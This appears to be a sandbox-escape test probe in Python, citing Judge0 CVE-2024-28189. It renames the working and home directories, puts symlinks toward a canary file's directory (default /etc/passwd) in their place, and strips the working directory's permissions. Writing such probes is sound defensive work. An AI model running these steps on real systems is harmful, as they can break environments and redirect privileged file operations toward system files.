# SPDX-License-Identifier: Apache-2.0
# NB-COLLECT-12: the working directory itself can be moved, replaced or closed
# Attack: rename the working directory, put a link to the canary's directory or a file in its place, take all
#   permissions
# Incident: Judge0 CVE-2024-28189 (chown through a replaced path); DMOJ and kubelet directory replacement
# @prelude probe.py
path = CFG.get("canary_file", "/etc/passwd")
place = os.getcwd()
done = []
for target in (place, os.path.expanduser("~")):
    try:
        os.rename(target, target + ".moved")
        done.append("moved " + target)
        os.symlink(os.path.dirname(path), target)
        done.append("replaced " + target)
    except OSError:
        pass
try:
    os.chmod(place, 0)
    done.append("closed")
except OSError:
    pass
emit(True, "%s" % (done or "the directory stays in its place"))
